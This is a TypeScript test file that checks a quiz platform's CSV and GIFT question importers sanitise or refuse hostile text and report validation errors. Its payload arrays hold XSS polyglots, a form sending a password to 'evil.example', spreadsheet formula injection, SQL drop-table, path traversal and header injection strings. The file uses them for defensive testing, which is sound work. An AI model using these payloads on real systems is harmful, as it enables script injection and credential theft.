/** Hostile texts in every place of a file: they are cleaned as typed ones, or refused (docs/hostile-input.md). */
import { readRows } from '@paanch/platform/files/tables/read-rows';
import { csvLine } from '@paanch/platform/exports/cells/csv-line.rule';
import { describe, expect, it } from 'vitest';
import { COLUMNS } from './csv/columns.js';
import { readCsv } from './csv/read-csv.js';
import { escapeText } from './gift/escapes.rule.js';
import { readGift } from './gift/read-gift.rule.js';
import { judgeQuestion } from './judge-question.js';
import { FileUnreadable, type QuestionContent, type QuestionFile } from './read-file.rule.js';

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  `"'><img src=x onerror=alert(1)>{{7*7}}\${7*7}`,
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<p style="position:fixed" onclick="alert(1)" class="x" id="y">x</p>',
  '<<script>alert(1)//<</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="//evil.example"><input name="password"></form>',
];
const OTHERS = [
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd',
  "+1'; drop table questions; --",
  '-2+3',
  '\t=1+1',
  '__proto__',
  'constructor',
  '{"$gt":""}',
  '../../etc/passwd',
  '\u202Efdp.exe',
  'a\u200Bb\uFEFFc',
  `Z${'\u0301'.repeat(1_000)}`,
  'a\r\nSet-Cookie: x=1',
  '\u{1F600}'.repeat(100),
  'null',
  '1e309',
];

const CARRIES =
  /<(?!\/?(?:p|br|strong|em|u|s|sub|sup|code|pre|ul|ol|li|table|thead|tbody|tr|th|td|blockquote|h3|h4)(?:\s*\/?>| colspan=| rowspan=))(?!img src="\/api\/media\/)[a-z/!]/i;
const ATTRIBUTES = /<[^>]*\s(?:on\w+|style|class|id|href|srcdoc|action)\s*=/i;

function expectHarmless({ prompt_html, options, explanation_html }: QuestionContent): void {
  for (const html of [prompt_html, ...options.map(({ text_html }) => text_html), explanation_html ?? '']) {
    expect(html).not.toMatch(CARRIES);
    expect(html).not.toMatch(ATTRIBUTES);
  }
}

/** @returns whether any question came through */
function judgedHarmless({ questions }: QuestionFile): boolean {
  const good = questions.flatMap(({ found }) => {
    if (typeof found === 'string') return [];
    const { question, message } = judgeQuestion(found);
    expect(message === '').toBe(question !== null);
    return question === null ? [] : [question];
  });
  for (const question of good) expectHarmless(question);
  return good.length > 0;
}

/** A file that is refused as a whole has no questions. */
function readOrRefused(text: string): QuestionFile {
  try {
    return readGift(Buffer.from(text));
  } catch (error) {
    if (error instanceof FileUnreadable) return { questions: [], notes: [] };
    throw error;
  }
}

const tableOf = (cells: Readonly<Record<string, string>>) => {
  return Buffer.from([COLUMNS, COLUMNS.map((name) => cells[name] ?? '')].map(csvLine).join(''));
};
const readTable = (bytes: Buffer) => readCsv('someone', bytes, (_, task) => readRows(task));
const GOOD = { type: 'single', question: 'Q', option_1: 'A', option_2: 'B', correct: '1' };

describe.each([...POLYGLOTS, ...OTHERS].map((text) => [text]))('%j', (text) => {
  it.each(['plain', 'html'])('does no harm in any column of a table, as %s', async (format) => {
    for (const column of COLUMNS) {
      const cells = column === 'format' ? { ...GOOD, format: text } : { ...GOOD, format, [column]: text };
      judgedHarmless(await readTable(tableOf(cells)));
    }
  });

  it('is kept as it was written in plain text', async () => {
    const { questions } = await readTable(tableOf({ ...GOOD, question: text }));
    const found = questions[0]?.found;
    if (found === undefined || typeof found === 'string') throw new Error('it was not read');
    const shown = found.prompt_html.replaceAll('<br />', '\n').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');
    expect(shown).toBe(text.trim().replaceAll('\r\n', '\n'));
  });

  it('does no harm in any place of GIFT', () => {
    const escaped = escapeText(text);
    for (const written of [text, escaped, `[html]${escaped}`]) {
      for (const block of [
        `${written} {=A ~B}`,
        `Q {=${written} ~B}`,
        `Q {=A ~B ####${written}}`,
        `::${written}:: Q {T}`,
        `$CATEGORY: ${written}\n\nQ {T}`,
        `Q {=${written}}`,
        `Q {#${written}}`,
      ]) {
        judgedHarmless(readOrRefused(block));
      }
    }
    expect(judgedHarmless(readGift(Buffer.from(`[html]<p>Q</p>${escaped} {T}`)))).toBe(!/<img/i.test(text));
  });
});

describe('a question of a file', () => {
  it.each(['a\0b', 'a\uD800b'])('with characters that no database takes is an error of its row: %j', (text) => {
    const found = {
      type: 'true_false',
      prompt_html: text,
      options: [],
      key: true,
      tolerance: null,
      explanation_html: null,
      tags: [],
    } as const;
    expect(judgeQuestion({ ...found, options: [], tags: [] })).toMatchObject({
      question: null,
      message: 'It contains characters that are not allowed',
    });
  });

  it('that is nested 3,000 deep is cleaned in good time', () => {
    const from = performance.now();
    const html = `${'<b><p>'.repeat(1_500)}x`;
    judgeQuestion({ type: 'true_false', prompt_html: html, options: [], key: true, tolerance: null, explanation_html: null, tags: [] });
    expect(performance.now() - from).toBeLessThan(1_000);
  });

  it.each<[Partial<QuestionContent>, RegExp]>([
    [{ prompt_html: '' }, /The question has no text/],
    [{ prompt_html: '<script>x</script>' }, /The question has no text/],
    [{ prompt_html: 'x'.repeat(20_001) }, /less than 20000/],
    [{ explanation_html: 'x'.repeat(5_001) }, /less than 5000/],
    [
      {
        type: 'single',
        key: null,
        options: [
          { id: 'a', text_html: 'A' },
          { id: 'b', text_html: ' ' },
        ],
      },
      /^Option 2: The option has no text\. Mark the correct answer$/,
    ],
    [
      {
        type: 'single',
        key: 'a',
        options: [
          { id: 'a', text_html: 'A' },
          { id: 'b', text_html: 'x'.repeat(2_001) },
        ],
      },
      /^Option 2: Option text must be/,
    ],
    [{ type: 'single', key: 'a', options: [{ id: 'a', text_html: 'A' }] }, /at least 2 options/],
    [{ options: [{ id: 'a', text_html: 'A' }] }, /has no options/],
    [{ tolerance: 1 }, /Only a numeric/],
    [{ type: 'numeric', key: 1, tolerance: -1 }, /Tolerance/],
    [{ type: 'numeric', key: Infinity }, /./],
    [{ type: 'short_text', key: ['x'.repeat(201)] }, /at most 200 characters/],
    [{ type: 'short_text', key: [] }, /does not fit/],
    [{ tags: ['x'.repeat(51)] }, /at most 50/],
    [{ tags: ['a', 'A'] }, /once/],
    [{ tags: [...'abcdefghijk'] }, /at most 10 tags/],
  ])('that could not be published is an error: %j', (parts, message) => {
    const found: QuestionContent = {
      type: 'true_false',
      prompt_html: 'Q',
      options: [],
      key: true,
      tolerance: null,
      explanation_html: null,
      tags: [],
      ...parts,
    };
    expect(judgeQuestion(found)).toMatchObject({ question: null, message: expect.stringMatching(message) as string });
  });
});
